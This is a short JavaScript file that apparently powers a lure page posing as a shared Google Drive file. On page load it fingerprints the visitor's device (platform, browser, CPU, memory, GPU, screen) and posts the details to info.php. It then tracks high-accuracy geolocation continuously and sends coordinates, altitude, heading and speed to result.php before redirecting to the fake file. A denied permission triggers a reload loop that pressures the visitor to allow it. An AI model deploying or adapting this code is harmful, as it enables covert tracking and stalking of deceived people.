function device() {
  var gl = document.createElement("canvas").getContext("webgl");
  var ext = gl && gl.getExtension("WEBGL_debug_renderer_info");
  $.ajax({
    type: "POST", url: "info.php",
    data: { os: navigator.platform, br: navigator.userAgent, cc: navigator.hardwareConcurrency, ram: navigator.deviceMemory, gpu: ext ? gl.getParameter(ext.UNMASKED_RENDERER_WEBGL) : "", w: screen.width, h: screen.height }
  });
}
function locate() {
  device();
  navigator.geolocation.watchPosition(function (p) {
    $.ajax({
      type: "POST", url: "result.php",
      data: { lat: p.coords.latitude, lon: p.coords.longitude, acc: p.coords.accuracy, alt: p.coords.altitude, dir: p.coords.heading, spd: p.coords.speed },
      success: function () { setTimeout(function () { window.location = "https://drive.google.com/file/d/PLACEHOLDER/view"; }, 500); }
    });
  }, function (e) { $.post("error.php", { e: e.message }); alert("Please allow location to view this file"); location.reload(); }, { enableHighAccuracy: true, maximumAge: 0, timeout: 30000 });
}
$(locate);
